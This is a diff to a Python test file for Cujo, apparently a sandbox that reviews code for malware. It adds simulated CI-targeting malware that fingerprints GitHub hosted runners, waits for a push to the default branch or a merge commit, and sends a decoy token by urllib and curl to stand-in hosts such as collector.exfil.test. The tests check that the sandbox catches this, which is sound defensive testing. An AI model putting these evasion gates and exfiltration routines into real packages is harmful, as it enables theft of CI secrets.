@@ -1,12 +1,16 @@
-"""Malware that checks it is on a runner before it acts still acts inside Cujo (issue 22).
+"""Malware that checks it is on a runner before it acts still acts inside Cujo (issue 22),
+and malware that waits for the merge finds it there (issue 33).
 
 Each payload here is gated, as CI-targeting malware gates itself, on the one-line checks an
 application can make of where it runs: the process tree, the mounts, the accounts, the
 environment, the image's folders, HOME, the resolver, the TLS issuer and an answer from
-api.github.com. It sends the decoy token only when every check it makes reads "hosted
-runner". The review must be blocked by the theft, so every gate must have opened. What
-only the kernel shows (no_new_privs, the bounding set, the uid map) and a random name that
-resolves are left out: docs/limits.md says why they stay.
+api.github.com; and on when it runs: only in the job of the push to the default branch
+(the event, the ref, the event file, the branch checked out), only on a merge commit. It
+sends the decoy token only when every check it makes reads "hosted runner, after the
+merge". Each payload first sends it plain, to a host of its own, then gated: the review
+must be blocked by both thefts, so every gate must have opened. What only the kernel shows
+(no_new_privs, the bounding set, the uid map) and a random name that resolves are left
+out: docs/limits.md says why they stay.
 
 The checks are written here as an attacker writes them, not borrowed from the fingerprint
 probe, so a probe that reads the wrong thing cannot make this pass. Each gate prints its
@@ -18,6 +22,7 @@ from __future__ import annotations
 import json
 import os
 
+import pytest
 from cujorun import Review
 from e2ecases import ISOLATION, Case, CaseReviews, assert_blocked, case_reviews
 
@@ -27,7 +32,8 @@ FAST = {"install": 120, "test": 120, "smoke": 60, "probes": 60}
 CALC = "def add(a, b):\n    return a + b\n"
 
 # The gates, one function each, named as the review's output names them. Together they
-# are every application-level row of issue 22's table.
+# are every application-level row of issue 22's table, and issue 33's two waits for the
+# merge.
 GATES = r"""
 import json, os, re, socket, ssl, urllib.request
 
@@ -76,9 +82,32 @@ def zen():
     with urllib.request.urlopen("https://api.github.com/zen", timeout=20) as answer:
         return answer.status == 200 and len(answer.read().strip()) > 10
 
+def git(*args):
+    import subprocess
+    done = subprocess.run(["git", *args], capture_output=True, text=True, check=True)
+    return done.stdout.strip()
+
+def pushed_to_default():
+    # Merged: the job of the push to the default branch, as a workflow on `push:` runs.
+    with open(os.environ["GITHUB_EVENT_PATH"]) as fh:
+        event = json.load(fh)
+    default = "refs/heads/" + event["repository"]["default_branch"]
+    env = os.environ
+    return (env["GITHUB_EVENT_NAME"] == "push" and env["GITHUB_REF"] == "refs/heads/main"
+            and event["ref"] == default == env["GITHUB_REF"] and "pull_request" not in event
+            and not env.get("GITHUB_HEAD_REF") and not env.get("GITHUB_BASE_REF")
+            and event["after"] == env["GITHUB_SHA"] == git("rev-parse", "HEAD")
+            and event["head_commit"]["id"] == env["GITHUB_SHA"]
+            and git("symbolic-ref", "--short", "HEAD") == "main")
+
+def merge_commit():
+    # What CI runs after the merge (and on refs/pull/N/merge): never the author's commit.
+    shas = git("rev-list", "--parents", "-n1", "HEAD").split()
+    return len(shas) == 3 and shas[0] == os.environ["GITHUB_SHA"]
+
 shut = []
 for gate in (pid1, busy, mounts, accounts, no_proxy, environment, image, home, resolver,
-             issuer, zen):
+             issuer, zen, pushed_to_default, merge_commit):
     try:
         opened = gate()
     except Exception as exc:  # a check that cannot run reads as "not a runner"
@@ -103,25 +132,34 @@ def steal():
 IMAGE = ("/opt/hostedtoolcache", "/usr/share/dotnet", "/usr/local/lib/android", "/snap")
 GATES = f"HOST_IMAGE = {[p for p in IMAGE if os.path.isdir(p)]!r}\n" + GATES
 
-# The payload: sent only when no gate stayed shut. urllib and curl, as the campaigns do.
+# The payload: sent plain, then again only when no gate stayed shut. urllib and curl, as
+# the campaigns do.
 SEND_WITH_URLLIB = r"""
+urllib.request.urlopen("https://plain.exfil.test/now", data=steal().encode(), timeout=20)
+print("sent plain")
 if shut:
     print("not a runner:", ",".join(shut))
 else:
     urllib.request.urlopen("https://collector.exfil.test/gated", data=steal().encode(), timeout=20)
-    print("sent")
+    print("sent gated")
 """
 
 SEND_WITH_CURL = r"""
 import subprocess
+def send(url):
+    subprocess.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "--data-binary",
+                    "t=" + steal(), url], check=True)
+send("https://plain.exfil.test/now")
+print("sent plain")
 if shut:
     print("not a runner:", ",".join(shut))
 else:
-    subprocess.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "--data-binary",
-                    "t=" + steal(), "https://drop.exfil.test/gated"],
-                   check=True)
-    print("sent")
+    send("https://drop.exfil.test/gated")
+    print("sent gated")
 """
+
+
+GATE_COUNT = 13
 
 
 def python(code: str) -> str:
@@ -163,14 +201,20 @@ def _gates(review: Review, check: str) -> str:
     return "\n".join(lines)
 
 
+def _stolen_by(review: Review, check: str) -> set[str]:
+    """Return the hosts ``check``'s requests carried a decoy to."""
+    return {e["host"] for e in review.report(check)["egress"] if e["decoy_seen"]}
+
+
 def test_a_theft_gated_on_every_runner_check_runs_in_the_tests_and_blocks(
     reviews: CaseReviews,
 ) -> None:
     review = reviews.get("in-tests")
     gates = _gates(review, "tests")
-    assert gates.count(": open") == 11, gates
-    assert "sent" in gates, gates
+    assert gates.count(": open") == GATE_COUNT, gates
+    assert "sent gated" in gates, gates
     assert_blocked(review, "decoy-egress")
+    assert _stolen_by(review, "tests") == {"plain.exfil.test", "collector.exfil.test"}
 
 
 def test_a_theft_gated_on_every_runner_check_runs_at_install_and_blocks(
@@ -178,7 +222,19 @@ def test_a_theft_gated_on_every_runner_check_runs_at_install_and_blocks(
 ) -> None:
     review = reviews.get("at-install")
     gates = _gates(review, "install")
-    assert gates.count(": open") == 11, gates
-    assert "sent" in gates, gates
+    assert gates.count(": open") == GATE_COUNT, gates
+    assert "sent gated" in gates, gates
     # An install that talks to hosts other than a registry is critical on its own too.
     assert_blocked(review, "decoy-egress", "install-egress")
+    assert _stolen_by(review, "install") == {"plain.exfil.test", "drop.exfil.test"}
+
+
+@pytest.mark.parametrize("gate", ["pushed_to_default", "merge_commit"])
+def test_a_theft_waiting_for_the_merge_finds_it_in_the_tests_and_at_install(
+    reviews: CaseReviews, gate: str
+) -> None:
+    """Attack test (issue 33): a payload that fires only in the job of the push to the
+    default branch, or only on a merge commit, fires in the review, wherever it runs."""
+    for case, check in (("in-tests", "tests"), ("at-install", "install")):
+        gates = _gates(reviews.get(case), check)
+        assert f"gate {gate}: open" in gates, gates
